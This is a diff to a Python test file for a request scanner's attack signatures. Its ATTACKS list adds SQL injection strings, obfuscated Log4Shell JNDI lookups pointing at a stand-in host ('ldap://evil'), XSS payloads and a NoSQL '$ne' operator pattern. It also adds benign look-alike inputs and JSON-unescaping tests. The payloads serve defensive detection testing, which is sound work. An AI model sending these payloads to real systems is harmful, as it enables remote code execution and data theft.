@@ -1,6 +1,6 @@
 """edgegate.policy.signatures: folding, anchors, every set's tripwires, and what must not trip them."""
 
-from edgegate.policy.signatures import SETS, Scanner, fold, percent_decode
+from edgegate.policy.signatures import SETS, Scanner, fold, json_unescaped, percent_decode
 from tests.portable import TestCase
 
 ALL = tuple(SETS)
@@ -12,6 +12,10 @@ ATTACKS = [
     ("sqli", b"1%20UNION%20SELECT%201"),
     ("sqli", b"x'; DROP TABLE users; --"),
     ("sqli", b"1 AND SLEEP(5)"),
+    ("sqli", b"1 union/*x*/select 2"),
+    ("sqli", b"1 and sleep (5)"),
+    ("cmd", b"${${lower:j}ndi:ldap://evil/a}"),
+    ("cmd", b"${${::-j}${::-n}di:ldap://x}"),
     ("xss", b"<ScRiPt>alert(1)</script>"),
     ("xss", b'<img src=x onerror = "alert(1)">'),
     ("xss", b"<a href='JavaScript:alert(1)'>"),
@@ -28,6 +32,14 @@ ATTACKS = [
 ]
 
 BENIGN = [
+    b'{"type":"say","text":"Should we go with \'tea\' or \'coffee\'?"}',
+    b'{"type":"say","text":"\\"yes\\" or \\"no\\""}',
+    b"he said 'hi'; then left",
+    b"'k' and 'ok'",
+    b"Note: 'beta'-- not final",
+    b"we drop tables from the report",
+    b"I'll sleep(ish) now",
+    b'{"team":"constructor","stage":"prototype","op":"$in"}',
     b'{"type":"chat","text":"Let us select a union rep tomorrow"}',
     b'{"type":"tick","seq":123456,"ok":true,"data":"abcdefghijabcdefghij"}',
     b'{"price": 12.5, "currency": "EUR", "note": "5% off, 2 < 3 is true"}',
@@ -43,6 +55,21 @@ class FoldTests(TestCase):
 
     def test_percent_decode_decodes_valid_escapes_and_keeps_the_rest(self):
         self.assertEqual(percent_decode(b"a%20b%zz%4"), b"a b%zz%4")
+
+
+class UnescapeTests(TestCase):
+    def test_json_escapes_are_decoded_everywhere(self):
+        self.assertEqual(json_unescaped(b'{"a":"\\u003cscript\\u003e \\/x \\t\\"q\\""}'),
+                         b'{"a":"<script> /x \t"q""}')
+
+    def test_surrogate_pairs_join_and_lone_ones_become_a_question_mark(self):
+        self.assertEqual(json_unescaped(b'\\ud83d\\ude00 \\ud800 \\udc00x'), "\U0001F600 ? ?x".encode())
+
+    def test_an_escaped_backslash_is_not_the_start_of_an_escape(self):
+        self.assertEqual(json_unescaped(b'a\\\\u0041'), b"a\\u0041")
+
+    def test_broken_escapes_are_kept(self):
+        self.assertEqual(json_unescaped(b'\\uzz12 \\u12'), b"\\uzz12 \\u12")
 
 
 class ScannerTests(TestCase):
@@ -75,7 +102,11 @@ class ScannerTests(TestCase):
     def test_every_pattern_is_compiled_once(self):
         s = Scanner(ALL + ALL, ("<script",))
         n = sum(len(v) for v in SETS.values())
-        self.assertTrue(n <= s.count <= n + 8)  # "x=" patterns also compile as "x ="
+        names = sum(1 for v in SETS.values() for p in v if p.endswith('":'))
+        self.assertEqual(s.count, n + names)  # a member name also compiles as '"name" :'
+
+    def test_member_name_patterns_match_pretty_printed_json(self):
+        self.assertEqual(Scanner(("nosql",)).find(b'{"u": {"$ne" : 1}}'), ("nosql", '"$ne":'))
 
     def test_an_empty_scanner_finds_nothing(self):
         self.assertIsNone(Scanner().find(b"<script>"))
